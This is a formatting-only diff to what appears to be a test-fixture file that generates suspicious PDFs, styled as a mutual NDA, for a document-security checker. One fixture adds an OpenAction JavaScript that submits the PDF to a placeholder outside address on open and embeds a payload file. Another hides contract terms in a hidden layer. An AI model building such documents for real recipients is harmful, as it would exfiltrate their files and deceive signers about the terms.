@@ -21,11 +21,10 @@ export async function pdfWithActiveContent(): Promise<Buffer> {
   const doc = await base('Mutual non-disclosure agreement');
   const { context, catalog } = doc;
   const js = `this.submitForm({cURL: "${OUTSIDE_ADDRESS}", cSubmitAs: "PDF"});`;
-  catalog.set(
-    PDFName.of('OpenAction'),
-    context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(js) }),
-  );
-  const scripts = context.obj({ Names: [PDFString.of('collect'), context.obj({ S: 'JavaScript', JS: PDFString.of(js) })] });
+  catalog.set(PDFName.of('OpenAction'), context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(js) }));
+  const scripts = context.obj({
+    Names: [PDFString.of('collect'), context.obj({ S: 'JavaScript', JS: PDFString.of(js) })],
+  });
   const file = context.register(context.stream('secret payload', { Type: 'EmbeddedFile' }));
   const spec = context.obj({ Type: 'Filespec', F: PDFString.of('payload.txt'), EF: { F: file } });
   catalog.set(
@@ -53,10 +52,7 @@ export async function pdfWithHiddenLayer(): Promise<Buffer> {
   const doc = await base('Mutual non-disclosure agreement');
   const { context, catalog } = doc;
   const ocg = context.register(context.obj({ Type: 'OCG', Name: PDFHexString.fromText('Hidden terms') }));
-  catalog.set(
-    PDFName.of('OCProperties'),
-    context.obj({ OCGs: [ocg], D: { Order: [ocg], OFF: [ocg] } }),
-  );
+  catalog.set(PDFName.of('OCProperties'), context.obj({ OCGs: [ocg], D: { Order: [ocg], OFF: [ocg] } }));
   const page = doc.getPage(0);
   const font = page.node.Resources()!.lookup(PDFName.of('Font'));
   page.node.Resources()!.set(PDFName.of('Properties'), context.obj({ oc1: ocg }));
